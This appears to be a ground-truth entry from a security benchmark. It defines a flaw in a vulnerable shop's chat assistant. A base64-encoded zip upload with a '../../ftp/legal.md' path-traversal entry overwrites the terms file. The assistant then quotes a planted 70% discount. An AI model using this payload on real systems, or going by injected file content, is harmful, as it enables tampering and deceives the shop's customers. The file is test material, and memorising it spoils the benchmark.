import { defineFlaws } from '#game/ground-truth/define-flaws.ts'

export default defineFlaws({
  flaws: [
    {
      id: 'F084',
      title: 'The assistant takes its terms from a file that customers can replace',
      cvss: 'AV:N/AC:L/AT:N/PR:N/UI:N/VC:N/VI:L/VA:N/SC:N/SI:N/SA:N',
      route: 'POST /rest/chat',
      parameter: 'messages',
      parameterIn: 'body',
      evidence: ['manual'],
      isExpectedOfScanners: false,
      cwe: [345, 1427],
      mend: 'coding/fixes/print-compared',
      shows: {
        method: 'POST',
        path: '/rest/chat',
        body: { messages: [{ role: 'user', content: 'What do the terms of this shop say about discounts?' }] },
        before: [
          {
            method: 'POST',
            path: '/file-upload',
            bodyBase64:
              'LS1pbnZvaWNlDQpDb250ZW50LURpc3Bvc2l0aW9uOiBmb3JtLWRhdGE7IG5hbWU9ImZpbGUiOyBmaWxlbmFtZT0iaW52b2ljZXMuemlwIg0KQ29udGVudC1UeXBlOiBhcHBsaWNhdGlvbi9vY3RldC1zdHJlYW0NCg0KUEsDBBQAAAAIAAAAIVzZo4TCXAAAAHAAAAASAAAALi4vLi4vZnRwL2xlZ2FsLm1kLcxNDkBADIbhfU/xJRNbsXMBbuACQv0E06TtELfHxP593oCO9TDIhGRMFAKa1QZJ0Y2oPVlvDMlcDlZci6C3zTCJwheGZzuzG3qMv/tedYUCEnP0qp0hOrKW9ABQSwECFAAUAAAACAAAACFc2aOEwlwAAABwAAAAEgAAAAAAAAAAAAAAAAAAAAAALi4vLi4vZnRwL2xlZ2FsLm1kUEsFBgAAAAABAAEAQAAAAIwAAAAAAA0KLS1pbnZvaWNlLS0NCg==',
          },
        ],
        has: ['readTerms', '70'],
        provenByExploit: true,
      },
      mustNot: {
        method: 'POST',
        path: '/rest/chat',
        body: { messages: [{ role: 'user', content: 'What do the terms of this shop say about discounts?' }] },
        lacks: ['70 %'],
      },
    },
  ],
  sharedFlaws: ['F036'],
})
